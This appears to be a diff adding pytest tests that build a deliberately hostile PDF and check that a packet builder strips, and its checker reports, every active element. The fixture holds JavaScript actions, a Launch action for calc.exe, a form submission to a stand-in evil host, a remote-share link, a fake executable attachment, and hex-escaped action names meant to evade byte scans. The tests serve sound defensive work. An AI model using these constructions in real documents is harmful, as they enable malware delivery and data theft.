@@ -8,6 +8,7 @@ not files, pages and images built to exhaust memory.
 from __future__ import annotations
 
 import os
+import subprocess
 from pathlib import Path
 
 import pikepdf
@@ -15,7 +16,7 @@ import pytest
 
 from docgen.cli import main
 from docgen.errors import PacketError
-from docgen.packets import build_packet
+from docgen.packets import build_packet, check_file
 
 from .packetcheck import line_of, write_spec
 
@@ -109,3 +110,152 @@ def test_links_that_stay_inside_the_spec_folder_are_fine(tmp_path: Path) -> None
     os.symlink("good.pdf", folder / "evidence" / "same.pdf")
     spec = write_spec(folder, PLAIN_SPEC + "exhibits:\n  - title: Same\n    files: [evidence/same.pdf]\n")
     assert build_packet(spec, folder / "out.pdf").pages == 1
+
+
+# --- 2. actions, scripts and attachments ------------------------------------------------------
+
+EXECUTABLE = b"MZ\x90\x00 this program cannot be run in DOS mode (a fake executable)"
+
+
+def hostile_pdf() -> pikepdf.Pdf:
+    """Two pages carrying every kind of action and attachment the issue names, in every place they hang."""
+    pdf = small_pdf("hostile", pages=2)
+    name = pikepdf.Name
+
+    def action(**entries: object) -> pikepdf.Object:
+        return pdf.make_indirect(pikepdf.Dictionary(Type=name.Action, **entries))
+
+    script = action(S=name.JavaScript, JS=pikepdf.String("app.alert('owned')"))
+    launch = action(S=name.Launch, F=pikepdf.String("C:\\Windows\\System32\\calc.exe"))
+    submit = action(S=name.SubmitForm, F=pikepdf.Dictionary(FS=name.URL, F=pikepdf.String("https://evil.example/x")))
+    share = action(S=name.GoToR, F=pikepdf.String("\\\\evil-share\\docs\\x.pdf"), D=pikepdf.Array([0, name.Fit]))
+    uri = action(S=name.URI, URI=pikepdf.String("https://example.org/"), Next=pikepdf.Array([script]))
+    payload = pdf.make_stream(EXECUTABLE, Type=name.EmbeddedFile)
+    spec = pdf.make_indirect(
+        pikepdf.Dictionary(Type=name.Filespec, F=pikepdf.String("invoice.exe"), EF=pikepdf.Dictionary(F=payload))
+    )
+    pdf.Root.OpenAction = action(S=name.JavaScript, JS=pikepdf.String("this.print()"))
+    pdf.Root.AA = pikepdf.Dictionary(WC=script)
+    pdf.Root.Names = pikepdf.Dictionary(
+        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), script])),
+        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("invoice.exe"), spec])),
+    )
+
+    def link(target: pikepdf.Object, y: int) -> pikepdf.Object:
+        return pdf.make_indirect(
+            pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[72, y, 300, y + 20], A=target)
+        )
+
+    first, second = pdf.pages[0].obj, pdf.pages[1].obj
+    attachment = pdf.make_indirect(
+        pikepdf.Dictionary(Type=name.Annot, Subtype=name.FileAttachment, Rect=[400, 700, 420, 720], FS=spec)
+    )
+    first.Annots = pikepdf.Array([link(uri, 600), link(launch, 560), link(share, 520), attachment])
+    first.AA = pikepdf.Dictionary(O=script)
+    button = pdf.make_indirect(
+        pikepdf.Dictionary(
+            Type=name.Annot,
+            Subtype=name.Widget,
+            FT=name.Btn,
+            Ff=1 << 16,
+            T=pikepdf.String("send"),
+            Rect=[72, 400, 200, 430],
+            P=second,
+            A=submit,
+            AA=pikepdf.Dictionary(D=script),
+        )
+    )
+    second.Annots = pikepdf.Array([button])
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([button]))
+    return pdf
+
+
+def _qpdf_plain(path: Path) -> bytes:
+    """The file as qpdf writes it uncompressed (every object in the open, object streams undone)."""
+    out = path.with_suffix(".qdf")
+    subprocess.run(["qpdf", "--qdf", "--object-streams=disable", str(path), str(out)], check=False)
+    return out.read_bytes()
+
+
+ACTIVE_MARKS = [b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/GoToR", b"/URI", b"/OpenAction", b"/AA"]
+ACTIVE_MARKS += [b"/EmbeddedFile", b"/FileAttachment", b"calc.exe", b"evil", b"MZ\x90"]
+
+
+@pytest.mark.parametrize("packed", [False, True], ids=["plain", "object-streams"])
+def test_every_action_and_attachment_is_stripped_from_evidence(tmp_path: Path, packed: bool) -> None:
+    evidence = tmp_path / "evidence" / "hostile.pdf"
+    evidence.parent.mkdir()
+    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
+    hostile_pdf().save(evidence, object_stream_mode=mode, compress_streams=packed)
+    assert all(mark in _qpdf_plain(evidence) for mark in ACTIVE_MARKS)  # the probe carries them all
+    spec = write_spec(tmp_path, PLAIN_SPEC + "exhibits:\n  - title: Hostile\n    files: [evidence/hostile.pdf]\n")
+    result = build_packet(spec, tmp_path / "out.pdf")
+    assert result.pages == 2
+    plain = _qpdf_plain(tmp_path / "out.pdf")
+    assert [mark for mark in ACTIVE_MARKS if mark in plain] == []
+    assert b"hostile 1" in plain and b"hostile 2" in plain  # the pages themselves are kept
+    report = check_file(tmp_path / "out.pdf", "uscis-online")
+    assert report.ok, report.lines()
+
+
+def test_packet_check_finds_every_action_and_attachment(tmp_path: Path) -> None:
+    path = tmp_path / "hostile.pdf"
+    hostile_pdf().save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    report = check_file(path, "uscis-online")
+    lines = "\n".join(report.lines())
+    assert not report.ok and "passes" not in lines
+    found = {f.check: f for f in report.findings}
+    assert found["javascript"].status == "error"
+    for place in ("document scripts", "document open action", "page 1", "page 2"):
+        assert place in found["javascript"].detail, found["javascript"].detail
+    assert found["actions"].status == "error"
+    for kind in ("Launch", "SubmitForm", "GoToR", "URI"):
+        assert kind in found["actions"].detail, found["actions"].detail
+    assert found["embedded files"].status == "error" and "page 1 FileAttachment" in found["embedded files"].detail
+    assert main(["packet", "check", str(path)]) == 9
+
+
+def test_a_script_behind_a_link_is_found_through_the_next_chain(tmp_path: Path) -> None:
+    """Only a URI link, whose /Next runs JavaScript: nothing else in the file."""
+    pdf = small_pdf("link")
+    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('x')"))
+    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"), Next=script)
+    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=uri)
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
+    pdf.save(tmp_path / "link.pdf")
+    found = {f.check: f for f in check_file(tmp_path / "link.pdf", "uscis-online").findings}
+    assert found["javascript"].detail == "page 1" and found["actions"].detail.startswith("URI")
+
+
+def _raw_pdf(objects: list[bytes]) -> bytes:
+    """A PDF file written by hand (object 1 is the catalog), with a correct cross-reference table."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+def test_names_written_with_hex_escapes_do_not_slip_past(tmp_path: Path) -> None:
+    """``/O#70enAction`` is /OpenAction and ``/#41A`` is /AA to every reader; the quick byte scan must not miss them."""
+    contents = b"BT /F1 12 Tf 72 700 Td (escaped) Tj ET"
+    data = _raw_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R /O#70enAction 4 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /#41A << /O 4 0 R >> >>",
+            b"<< /S /#4Aava#53cript /J#53 (app.alert(1)) >>",
+            b"<< /Length %d >>\nstream\n" % len(contents) + contents + b"\nendstream",
+        ]
+    )
+    (tmp_path / "evidence").mkdir()
+    (tmp_path / "evidence" / "escaped.pdf").write_bytes(data)
+    spec = write_spec(tmp_path, PLAIN_SPEC + "exhibits:\n  - title: Escaped\n    files: [evidence/escaped.pdf]\n")
+    build_packet(spec, tmp_path / "out.pdf")
+    plain = _qpdf_plain(tmp_path / "out.pdf")
+    assert b"JavaScript" not in plain and b"/AA" not in plain and b"app.alert" not in plain
